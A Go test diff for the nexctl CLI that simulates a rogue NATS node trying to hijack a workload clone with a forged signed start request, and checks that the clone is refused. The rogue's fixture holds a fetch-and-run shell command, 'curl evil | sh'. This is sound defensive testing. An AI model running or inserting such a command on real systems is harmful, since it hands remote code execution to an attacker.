@@ -316,3 +316,62 @@ func TestUnsignedUpstreamNodeStillServed(t *testing.T) {
 		t.Errorf("node list --trusted-node --allow-unsigned-bids: exit %d\n%s%s", code, out, errOut)
 	}
 }
+
+// TestAttackRogueSignerClaimsHolder: the rogue signs as a node of its own making (a
+// server key it made: no trusted_nodes to refuse it) and lists W1, which the honest
+// node runs, after the honest node's answer; then answers W1's CLONE, signed, with a
+// start request of its own. Before, the listing's last signer was taken as W1's holder
+// and only its signed clone answer counted: nexctl deployed the rogue's request. Now a
+// workload two nodes list has no known holder, and the clone's two signed answers are
+// refused; with --trusted-node the holder's answer is taken.
+func TestAttackRogueSignerClaimsHolder(t *testing.T) {
+	t.Parallel()
+	op := testnats.StartOperator(t, nil)
+	def := "default"
+	honest := newSigningFakeNode(t, op.Connect(t, "node"), nil)
+	honest.drains = true
+	honest.workloads = []protocol.WorkloadSummary{{ID: "W1", Name: "web", Namespace: &def, StartTime: "2026-11-27T11:00:00Z",
+		WorkloadType: "native", WorkloadLifecycle: "service", WorkloadState: protocol.WorkloadRunning, Tags: map[string]string{}}}
+	honest.stored["W1"] = protocol.StartWorkloadRequest{Name: "web", Namespace: def, Description: "d", WorkloadType: "native",
+		WorkloadLifecycle: "service", RunRequest: `{"uri":"file:///bin/true","argv":["1"]}`, Tags: map[string]string{}}
+	honest.start()
+	rogueKP, _ := nkeys.CreateServer()
+	rogueID, _ := rogueKP.PublicKey()
+	signed := func(m, r *nats.Msg) *nats.Msg {
+		if r.Header == nil {
+			r.Header = nats.Header{}
+		}
+		if err := protocol.SignAnswer(rogueKP, rogueID, m.Header.Get(protocol.HeaderNonce), m.Subject, r.Header, r.Data); err != nil {
+			t.Errorf("rogue: %v", err)
+		}
+		return r
+	}
+	rogueAnswers(t, op, protocol.WPingSubject("*"), func(m *nats.Msg) *nats.Msg {
+		go func() { // its answer after the honest node's (it acknowledged: it is waited for)
+			time.Sleep(time.Second)
+			_ = m.RespondMsg(signed(m, jsonMsg(t, honest.workloads, nil)))
+		}()
+		return signed(m, &nats.Msg{Header: nats.Header{protocol.HeaderProgress: {"1"}}})
+	})
+	rogueAnswers(t, op, protocol.CloneSubject("*", "*"), func(m *nats.Msg) *nats.Msg {
+		return signed(m, jsonMsg(t, protocol.StartWorkloadRequest{Name: "web", Namespace: def, Description: "d", WorkloadType: "native",
+			WorkloadLifecycle: "service", RunRequest: `{"uri":"file:///bin/sh","argv":["-c","curl evil | sh"]}`, Tags: map[string]string{}}, nil))
+	})
+	out, errOut, code := runCLI(t, nil, opArgs(t, op, "workload", "clone", "W1")...)
+	t.Logf("workload clone: exit %d\n%s%s", code, out, errOut)
+	for _, d := range honest.deployed() {
+		if strings.Contains(d.RunRequest, "evil") {
+			t.Errorf("the clone deployed the rogue's start request: %s", d.RunRequest)
+		}
+	}
+	if code == 0 || !strings.Contains(errOut, "nodes signed an answer") {
+		t.Errorf("exit %d, want the clone refused: two nodes signed an answer", code)
+	}
+	// With trusted_nodes the rogue's listing is refused and the holder's answer taken.
+	out, errOut, code = runCLI(t, nil, opArgs(t, op, "--trusted-node", honest.id, "workload", "clone", "W1")...)
+	t.Logf("workload clone --trusted-node: exit %d\n%s%s", code, out, errOut)
+	deps := honest.deployed()
+	if code != 0 || len(deps) != 1 || !strings.Contains(deps[0].RunRequest, "file:///bin/true") {
+		t.Errorf("exit %d, %d deploys, want the holder's start request deployed once: %+v", code, len(deps), deps)
+	}
+}
